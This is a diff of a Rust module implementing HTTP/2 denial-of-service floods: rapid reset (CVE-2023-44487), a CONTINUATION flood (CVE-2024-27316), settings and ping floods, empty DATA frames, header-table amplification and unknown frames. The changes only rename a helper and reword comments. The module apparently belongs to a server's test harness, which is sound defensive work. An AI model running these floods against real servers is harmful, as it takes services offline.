@@ -1,27 +1,27 @@
-//! Attacks by frames that cost their sender little.
+//! Attacks by floods of cheap frames.
 
 use std::net::SocketAddr;
 
 use super::{
-    on_each,
+    on_each_connection,
     raw_connection::{
         CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, READ, RST_STREAM,
         RawConnection, call, field, frame, head, ids, settings_frame,
     },
 };
 
-/// On how many connections.
+/// The number of connections.
 const CONNECTIONS: usize = 8;
-/// How many frames are written at once.
+/// The number of frames per write.
 const BATCH: u32 = 100;
 
 fn repeated(frame: &[u8]) -> Vec<u8> {
     frame.repeat(BATCH as usize)
 }
 
-/// Calls that are taken back at once (CVE-2023-44487).
+/// Calls that are reset immediately (CVE-2023-44487).
 pub(super) async fn rapid_reset(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut next = 0;
         let batch = || {
             let streams = ids(BATCH).map(|id| next + id);
@@ -39,28 +39,28 @@ pub(super) async fn rapid_reset(to: SocketAddr) {
 
 /// Settings, whose acknowledgements are not read.
 pub(super) async fn settings(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut value = 0;
         let batch = || {
             value = (value + 1) % 1_000;
             repeated(&settings_frame(&[(4, 65_535 + value), (1, 4_096 + value)]))
         };
-        RawConnection::open_deaf(to, &[]).await?.flood(batch).await
+        RawConnection::open_unread(to, &[]).await?.flood(batch).await
     })
     .await;
 }
 
 /// Pings, whose answers are not read.
 pub(super) async fn pings(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
-        RawConnection::open_deaf(to, &[]).await?.flood(|| repeated(&frame(PING, 0, 0, &[1; 8]))).await
+    on_each_connection(CONNECTIONS, || async move {
+        RawConnection::open_unread(to, &[]).await?.flood(|| repeated(&frame(PING, 0, 0, &[1; 8]))).await
     })
     .await;
 }
 
-/// DATA without any.
+/// DATA frames without data.
 pub(super) async fn empty_data(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut raw_connection = RawConnection::open(to, &[]).await?;
         raw_connection.send(&call(READ, 1)).await?;
         raw_connection.flood(|| repeated(&frame(DATA, 0, 1, &[]))).await
@@ -68,9 +68,9 @@ pub(super) async fn empty_data(to: SocketAddr) {
     .await;
 }
 
-/// A head that never ends (CVE-2024-27316).
+/// A header block that never ends (CVE-2024-27316).
 pub(super) async fn continuation(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut raw_connection = RawConnection::open(to, &[]).await?;
         raw_connection.send(&frame(HEADERS, END_STREAM, 1, &head(READ))).await?;
         let more: Vec<u8> = (0..100).flat_map(|_| field("x-more", "and more of it")).collect();
@@ -79,9 +79,9 @@ pub(super) async fn continuation(to: SocketAddr) {
     .await;
 }
 
-/// Heads that name one large field of the table again and again.
+/// Header blocks that refer to one large field of the table many times.
 pub(super) async fn header_lists(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut next = 1;
         let mut large = field("x-large", &"x".repeat(3_900));
         // Kept in the table, as its newest entry: index 62.
@@ -102,9 +102,9 @@ pub(super) async fn header_lists(to: SocketAddr) {
     .await;
 }
 
-/// Frames that mean nothing.
+/// Frames without a meaning.
 pub(super) async fn unknown_frames(to: SocketAddr) {
-    on_each(CONNECTIONS, || async move {
+    on_each_connection(CONNECTIONS, || async move {
         let mut stream = 1;
         let batch = || {
             stream = (stream + 2) % 100_001;
